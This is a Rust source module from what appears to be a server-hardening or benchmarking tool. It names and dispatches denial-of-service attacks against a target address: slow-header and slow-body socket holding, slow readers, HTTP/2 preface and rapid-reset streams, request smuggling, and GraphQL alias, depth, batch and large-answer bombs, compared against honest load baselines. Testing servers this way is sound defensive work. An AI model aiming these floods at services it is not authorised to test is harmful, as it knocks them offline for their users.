//! The attacks by their names, and what each of them sends.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::exchange::{ATTACKER, Connection, HOST, post};
use super::graphql::Dialect;
use super::sockets::{self, Manner};
use super::{graphql, http2};
use crate::clock::now;

/// Connections of those who attack with requests.
const CONNECTIONS: usize = 4;

/// Requests of an attack, all connections together.
const REQUESTS: usize = 100_000;

/// What hostile clients do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(super) enum Attack {
    /// Ordinary requests, as many as four connections carry: what the others are held against.
    Load,
    /// The requests of `slow-reader` from as many connections, whose answers are read: what
    /// `slow-reader` is held against.
    Crowd,
    /// More sockets than descriptors, each with a head that never ends.
    SlowHeader,
    /// The same with bodies.
    SlowBody,
    /// Requests whose answers are not read.
    SlowReader,
    /// More sockets than descriptors that send nothing.
    Silent,
    /// The same with the preface of HTTP/2 and nothing behind it.
    Http2Preface,
    /// Streams that are canceled at once.
    Http2Reset,
    /// Requests that two servers may take for different ones.
    Smuggling,
    /// One field under 10,000 names.
    Aliases,
    /// 20,000 levels.
    Depth,
    /// One field of a list under 3,000 names.
    Width,
    /// Types of fields of types of fields, by introspection.
    Introspection,
    /// 30 aliases over a fragment of 600 fields.
    PlanBomb,
    /// Short queries for answers of 120,000 fields and up to millions.
    LargeAnswer,
    /// Entities that link each other, eight levels deep.
    Entities,
    /// Numbers of 100,000 digits, in the text and in the variables.
    BigNumbers,
    /// Each key twice, and one 10,000 times.
    DuplicateKeys,
    /// Operations that differ, up to 100,000.
    Operations,
    /// Operation names of 500 KB.
    OperationNames,
    /// Aliases in lists and names of operations, of 90 KB and of 300 KB, which differ.
    LongNames,
    /// 1,000 operations in one request.
    Batch,
}

impl Attack {
    /// As it is written after `--attack`.
    pub(super) fn word(self) -> String {
        use clap::ValueEnum as _;
        self.to_possible_value()
            .map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// Whether these are well-behaved clients, whom attacks are held against.
    pub(super) fn is_honest(self) -> bool {
        matches!(self, Attack::Load | Attack::Crowd)
    }

    /// Whether it makes sense without GraphQL.
    fn is_for_all(self) -> bool {
        matches!(
            self,
            Attack::Load
                | Attack::Crowd
                | Attack::SlowHeader
                | Attack::SlowBody
                | Attack::SlowReader
                | Attack::Silent
                | Attack::Http2Preface
                | Attack::Http2Reset
                | Attack::Smuggling
        )
    }

    /// Whether a service can be attacked so.
    pub(super) fn suits(self, dialect: Option<&Dialect>) -> bool {
        match dialect {
            None => self.is_for_all(),
            // Entities are those of a supergraph.
            Some(dialect) => self != Attack::Entities || dialect.is_federated,
        }
    }
}

/// What is attacked.
pub(super) struct Victim<'a> {
    pub(super) address: SocketAddr,
    pub(super) path: &'a str,
    /// The body of a request that is well answered.
    pub(super) body: &'a str,
    pub(super) dialect: Option<&'a Dialect>,
}

/// What the attackers did and saw, counted by words.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Seen(BTreeMap<String, u64>);

impl Seen {
    pub(super) fn count(&mut self, what: &str) {
        self.add(what, 1);
    }

    pub(super) fn add(&mut self, what: &str, times: u64) {
        *self.0.entry(what.to_owned()).or_default() += times;
    }

    fn join(mut self, other: &Seen) -> Seen {
        for (what, times) in &other.0 {
            self.add(what, *times);
        }
        self
    }

    /// `200: 14, closed by it: 3`.
    pub(super) fn in_words(&self) -> String {
        let words = self
            .0
            .iter()
            .map(|(what, times)| format!("{what}: {times}"));
        words.collect::<Vec<_>>().join(", ")
    }
}

/// Attacks until that moment, or until asked to stop.
pub(super) fn carry_out(
    attack: Attack,
    victim: &Victim<'_>,
    until: Instant,
    stop: &AtomicBool,
) -> Seen {
    let is_over = || now() >= until || stop.load(Ordering::Relaxed);
    let (to, path) = (victim.address, victim.path);
    let hold = |manner: Manner| sockets::hold(&manner, to, &is_over);
    match attack {
        Attack::SlowHeader => hold(Manner::slow_header(path)),
        Attack::SlowBody => hold(Manner::slow_body(path)),
        Attack::Crowd => {
            let request = largest(victim);
            let readers = usize::try_from(sockets::READERS).unwrap_or(CONNECTIONS);
            send((readers, to), until, &is_over, &|_| request.clone())
        }
        Attack::SlowReader => hold(Manner::slow_reader(&largest(victim))),
        Attack::Silent => hold(Manner::silent()),
        Attack::Http2Preface => hold(Manner::http2_preface()),
        Attack::Smuggling => sockets::smuggle(path, to, &is_over),
        Attack::Http2Reset => thread::scope(|scope| {
            let work = || scope.spawn(|| http2::reset((path, victim.body), to, &is_over));
            let workers: Vec<_> = (0..CONNECTIONS).map(|_| work()).collect();
            joined(workers)
        }),
        _ => requests(attack, victim, (until, &is_over)),
    }
}

/// The request with the largest answer.
fn largest(victim: &Victim<'_>) -> Vec<u8> {
    let body = victim.dialect.map(Dialect::large);
    post(victim.path, HOST, body.as_deref().unwrap_or(victim.body))
}

/// Sends requests as fast as they are answered.
fn requests(
    attack: Attack,
    victim: &Victim<'_>,
    (until, is_over): (Instant, &(dyn Fn() -> bool + Sync)),
) -> Seen {
    let bodies = graphql::bodies(attack, victim);
    send((CONNECTIONS, victim.address), until, is_over, &|number| {
        post(victim.path, HOST, &bodies.body(number))
    })
}

/// Sends requests by number over so many connections, each when the one before it is answered.
fn send(
    (connections, to): (usize, SocketAddr),
    until: Instant,
    is_over: &(dyn Fn() -> bool + Sync),
    request: &(dyn Fn(usize) -> Vec<u8> + Sync),
) -> Seen {
    let worker = |number: usize| {
        let mut seen = Seen::default();
        let mut kept: Option<Connection> = None;
        for round in 0..REQUESTS / connections {
            if is_over() {
                break;
            }
            let request = request(round * connections + number);
            let patience = until.min(now() + Duration::from_secs(30));
            let connection = match kept.take() {
                Some(connection) => Ok(connection),
                None => Connection::open(ATTACKER, to, patience),
            };
            let Ok(mut connection) = connection else {
                seen.count("not opened");
                continue;
            };
            match connection.exchange(&request, patience) {
                Ok(answer) => {
                    let errors = if answer.has_errors {
                        " with errors"
                    } else {
                        ""
                    };
                    seen.count(&format!("{}{errors}", answer.status));
                    kept = answer.is_kept.then_some(connection);
                }
                // The end of the attack, which closes the connection as a client does that leaves.
                Err(error) if error.kind() == std::io::ErrorKind::TimedOut => {
                    seen.count("unanswered");
                }
                Err(_) => seen.count("closed by it"),
            }
        }
        seen
    };
    thread::scope(|scope| {
        let worker = &worker;
        let workers = (0..connections).map(|number| scope.spawn(move || worker(number)));
        joined(workers.collect())
    })
}

fn joined(workers: Vec<thread::ScopedJoinHandle<'_, Seen>>) -> Seen {
    let seen = workers
        .into_iter()
        .map(|worker| worker.join().unwrap_or_default());
    seen.fold(Seen::default(), |all, one| all.join(&one))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn honest_clients_come_first_since_attacks_are_held_against_them() {
        use clap::ValueEnum as _;
        let all = Attack::value_variants();
        assert!(all.is_sorted_by_key(|attack| !attack.is_honest()));
        let honest: Vec<String> = all
            .iter()
            .filter(|it| it.is_honest())
            .map(|it| it.word())
            .collect();
        assert_eq!(honest, ["load", "crowd"]);
    }

    #[test]
    fn what_was_seen_is_said_in_order_and_added_up() {
        let mut one = Seen::default();
        one.count("closed by it");
        one.add("200", 3);
        let both = one.clone().join(&one);
        assert_eq!(both.in_words(), "200: 6, closed by it: 2");
        assert_eq!(Seen::default().in_words(), "");
    }
}
